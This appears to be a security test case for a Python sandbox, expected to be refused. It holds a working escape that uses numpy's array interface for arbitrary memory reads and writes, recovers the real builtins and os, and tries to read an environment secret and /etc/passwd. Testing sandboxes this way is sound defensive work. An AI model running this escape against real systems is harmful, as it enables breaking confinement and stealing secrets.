# class: file_or_process
# expect: refused
# attack: the escape of guard_bypass_3 gives the real builtins and os; read /etc/passwd, write MARK, list a directory and start a process: the kernel's confinement is what is left
def init_of(super):
    return super().__init__
def addr(obj):
    text = repr(init_of(lambda: obj))
    return int(text[text.rfind('0x') + 2:-1], 16)
holder = np.random
def mem(address, count):
    init_of(lambda: holder)(**{'__array_interface__': {'data': (int(address), False), 'shape': (count,), 'typestr': '<u8', 'version': 3}})
    return np.asarray(holder)
box = [None]
items = mem(addr(box) + 24, 1)[0]
globals_address = mem(addr(print) + 16, 1)[0]
count = mem(globals_address, 1)
count[0] = count[0] + 1
slot = mem(items, 1)
slot[0] = globals_address
G = box[0]
print('module globals of:', G['__name__'])
real = G['__builtins__']
os_module = real['__import__']('os')
results = []
for attempt in (
    lambda: os_module.environ.get('ROBOSCRIPT_TEST_SECRET'),
    lambda: real['open']('/etc/passwd').read()[:40],
):
    try:
        results.append(attempt())
    except Exception as exc:
        results.append('refused: ' + str(exc)[:80])
print(results)
